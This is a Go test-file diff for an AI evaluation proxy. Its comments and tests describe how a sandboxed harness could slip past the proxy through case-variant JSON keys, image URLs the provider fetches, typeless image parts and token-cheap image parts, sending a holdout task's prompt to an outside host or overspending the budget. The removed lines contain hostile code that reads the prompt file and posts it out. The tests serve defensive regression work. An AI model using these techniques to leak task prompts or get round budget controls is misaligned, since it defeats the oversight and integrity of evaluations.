@@ -10,6 +10,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"regexp"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -248,22 +249,18 @@ func FuzzWire(f *testing.F) {
 // their URLs (the task's prompt went to an outside host) and billed them
 // per image, past the budget. And it read tools case-insensitively, so a
 // tool of "type" web_search and "Type" function passed as a function tool
-// to a server that reads the exact key and searches the web. Each attack is
-// played against both kinds of server; each must now be refused before it
-// reaches either, and the run recorded with the tokens the upstream served.
-func TestRedteam7CaseVariantKeysPassTheProxy(t *testing.T) {
+// to a server that reads the exact key and searches the web
+// (wire-case-variant-content.txtar, wire-case-variant-type.txtar: each
+// harness sends its attack, then an honest request). Each attack is played
+// against both kinds of server; each must now be refused before it reaches
+// either, and the run recorded with the tokens the upstream served.
+func TestCaseVariantKeysNeverReachTheUpstream(t *testing.T) {
 	var reached atomic.Value
 	outside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		reached.Store(r.URL.String())
 	}))
 	defer outside.Close()
-	attacks := map[string]struct{ api, body string }{
-		"content and Content": {"openai", `{"messages":[{"role":"user","content":"describe","Content":[` +
-			strings.Repeat(`{"type":"image_url","image_url":{"url":"`+outside.URL+`/a.png?d=PROMPT"}},`, 39) +
-			`{"type":"image_url","image_url":{"url":"` + outside.URL + `/a.png?d=PROMPT"}}]}]}`},
-		"type and Type": {"anthropic", `{"max_tokens":100,"messages":[{"role":"user","content":"PROMPT"}],"tools":[` +
-			`{"type":"web_search_20250305","name":"web_search","Type":"custom","input_schema":{"type":"object"}}]}`},
-	}
+	attacks := map[string]string{"wire-case-variant-content": "openai", "wire-case-variant-type": "anthropic"} // archive: API
 	// goServer reads a body as encoding/json does into structs; exactServer
 	// reads exact keys. Each does what its kind of provider does with an
 	// image part (fetch it, bill it) and with a web search tool (search).
@@ -311,7 +308,8 @@ func TestRedteam7CaseVariantKeysPassTheProxy(t *testing.T) {
 		}
 		return images, search
 	}
-	for name, attack := range attacks {
+	for name, api := range attacks {
+		harness := attackFor(t, name).harness()
 		for server, read := range map[string]func([]byte) (int, string){"go": goServer, "exact": exactServer} {
 			t.Run(name+"/"+server, func(t *testing.T) {
 				var served, requests atomic.Int64
@@ -326,24 +324,9 @@ func TestRedteam7CaseVariantKeysPassTheProxy(t *testing.T) {
 					served.Add(int64(in) + 1)
 					return fakemodel.Step{Text: "ok", In: in, Out: 1}
 				}}, 10)...)
-				e.a.API, e.a.Budget = attack.api, 20000
+				e.a.API, e.a.Budget = api, 20000
 				task := addTask(t, e.suite, "holdout", "keys")
-				path := chatPath(attack.api)
-				honest := `{"max_tokens":100,"messages":[{"role":"user","content":"hi"}]}`
-				h := hostileAsker(t, e, `	prompt, _ := os.ReadFile("/work/prompt.txt")
-	c := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
-		return net.Dial("unix", os.Getenv("MODEL_SOCKET"))
-	}}}
-	attack := strings.ReplaceAll(`+"`"+attack.body+"`"+`, "PROMPT", strings.ReplaceAll(strings.TrimSpace(string(prompt)), " ", "+"))
-	for _, body := range []string{attack, `+"`"+honest+"`"+`} {
-		resp, err := c.Post("http://m`+path+`", "application/json", bytes.NewReader([]byte(body)))
-		if err != nil {
-			fmt.Println(err)
-			continue
-		}
-		fmt.Println(resp.Status)
-		resp.Body.Close()
-	}`)
+				h := e.hostile(t, harness, map[string]string{"outside": outside.URL})
 				r, err := e.a.RunTask(ctx(), h, task, 0, false)
 				if err != nil {
 					t.Fatal(err)
@@ -367,6 +350,130 @@ func TestRedteam7CaseVariantKeysPassTheProxy(t *testing.T) {
 				}
 			})
 		}
+	}
+}
+
+// imageCost is what a vision model charges for one image part, whatever its
+// bytes: LLaVA's 576 image tokens (Ollama's most pulled vision model; gemma3
+// charges 256, Qwen2.5-VL up to thousands for an image that declares a
+// large size, gpt-4o-mini 25,501 for one high-detail 2048 x 2048 image).
+const imageCost = 576
+
+// The proxy reserved a request's input at a token per byte of its body
+// ("a byte-level tokenizer makes at most one token of a byte"). Images are
+// not tokenized from their bytes: a vision model charges each image part a
+// fixed or size-derived count, far more than the ~165 bytes of a one-pixel
+// data URL part. A single request of 40 such parts (6.6 KB, under a budget of 10,000 so it is forwarded with
+// max_tokens = 10,000 - 6.6 K) costs 40 x 576 = 23,040 input tokens: the
+// upstream serves more than twice the run's whole budget in one request.
+// The proxy passed content parts of any type; Ollama's OpenAI endpoint,
+// OpenAI and Anthropic all accept image parts. The harness sends such a
+// request three times (wire-images-overspend.txtar); the fake upstream
+// charges what such a model reports, and must serve no more than the
+// budget.
+func TestImagePartsCannotOverspend(t *testing.T) {
+	var served atomic.Int64
+	e := newEnv(t, repeat(fakemodel.Step{Func: func(r fakemodel.Request) fakemodel.Step {
+		var body struct {
+			MaxTokens int64 `json:"max_tokens"`
+		}
+		json.Unmarshal(r.Body, &body)
+		in := len(r.Body)/4 + imageCost*strings.Count(string(r.Body), `"image_url"`)/2 // each part names it twice
+		out := min(body.MaxTokens, 10)
+		served.Add(int64(in) + out)
+		return fakemodel.Step{Text: "a white pixel", In: in, Out: int(out)}
+	}}, 100)...)
+	e.a.Budget = 10000
+	task := addTask(t, e.suite, "train", "images")
+	h := e.hostile(t, attackFor(t, "wire-images-overspend").harness(), nil)
+	r, err := e.a.RunTask(ctx(), h, task, 0, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("budget %d: the upstream served %d tokens; the ledger says %d in, %d out", e.a.Budget, served.Load(), r.TokensIn, r.TokensOut)
+	if served.Load() > e.a.Budget {
+		t.Errorf("a run with a budget of %d was served %d tokens through image parts of a few bytes each", e.a.Budget, served.Load())
+	}
+}
+
+// The proxy refused server-side tools because they would give the model a
+// way to the network (I2), but it forwarded content parts untouched, and an
+// image (OpenAI image_url, Anthropic image or document source "url") may be
+// a URL that the model's provider fetches itself. So a harness reached any
+// host on the internet, with whatever it put in the URL: here the task's
+// prompt (a holdout task's text, say) goes to an outside server in the
+// query string (wire-image-url.txtar). The fake upstream fetches image URLs
+// as OpenAI and Anthropic do; the outside server stands for anyone's, and
+// must hear nothing.
+func TestImageURLNeverReachesTheNetwork(t *testing.T) {
+	var got atomic.Value
+	outside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		got.Store(r.URL.Query().Get("d"))
+		w.Header().Set("Content-Type", "image/png")
+	}))
+	defer outside.Close()
+	urlPart := regexp.MustCompile(`"url":"(http[^"]+)"`)
+	e := newEnv(t, repeat(fakemodel.Step{Func: func(r fakemodel.Request) fakemodel.Step {
+		for _, m := range urlPart.FindAllSubmatch(r.Body, -1) {
+			var u string
+			json.Unmarshal([]byte(`"`+string(m[1])+`"`), &u)
+			if resp, err := http.Get(u); err == nil { // the provider fetches the image
+				resp.Body.Close()
+			}
+		}
+		return fakemodel.Step{Text: "an image", In: 10, Out: 1}
+	}}, 10)...)
+	task := addTask(t, e.suite, "holdout", "exfil")
+	h := e.hostile(t, attackFor(t, "wire-image-url").harness(), map[string]string{"outside": outside.URL})
+	if _, err := e.a.RunTask(ctx(), h, task, 0, false); err != nil {
+		t.Fatal(err)
+	}
+	if d, _ := got.Load().(string); d != "" {
+		t.Errorf("a sandbox with no network sent the task's prompt to an outside server through an image URL: %q", d)
+	}
+}
+
+// The proxy let a content part with no "type" through: "" was a text type
+// (it is what a message itself has, and messages were walked as parts).
+// vLLM's OpenAI server reads such a part by its keys: a part that is just
+// {"image_url": "<url>"} is an image, which it fetches over the network
+// (vllm/entrypoints/chat_utils.py, _parse_chat_message_content_mm_part:
+// "Handle missing 'type' but provided direct URL fields"). So the
+// text-only rule was passed by leaving "type" out, and a harness sent the
+// task's prompt to an outside host in the URL (wire-typeless-image-part.txtar),
+// as in TestImageURLNeverReachesTheNetwork. The fake upstream fetches the
+// URL of a typeless part with image_url, as vLLM does; the outside server
+// must hear nothing.
+func TestTypelessImagePartIsRefused(t *testing.T) {
+	var got atomic.Value
+	outside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		got.Store(r.URL.Query().Get("d"))
+		w.Header().Set("Content-Type", "image/png")
+	}))
+	defer outside.Close()
+	e := newEnv(t, repeat(fakemodel.Step{Func: func(r fakemodel.Request) fakemodel.Step {
+		for _, m := range r.Messages() {
+			var msg struct{ Content any }
+			json.Unmarshal(m, &msg)
+			parts, _ := msg.Content.([]any)
+			for _, p := range parts {
+				part, _ := p.(map[string]any)
+				if u, ok := part["image_url"].(string); ok && part["type"] == nil {
+					if resp, err := http.Get(u); err == nil {
+						resp.Body.Close()
+					}
+				}
+			}
+		}
+		return fakemodel.Step{Text: "an image", In: 10, Out: 1}
+	}}, 10)...)
+	task := addTask(t, e.suite, "holdout", "typeless")
+	h := e.hostile(t, attackFor(t, "wire-typeless-image-part").harness(), map[string]string{"outside": outside.URL})
+	if _, err := e.a.RunTask(ctx(), h, task, 0, false); err != nil {
+		t.Fatal(err)
+	}
+	if d, _ := got.Load().(string); d != "" {
+		t.Errorf("a sandbox with no network sent the task's prompt to an outside server through a content part without a type: %q", d)
 	}
 }
 
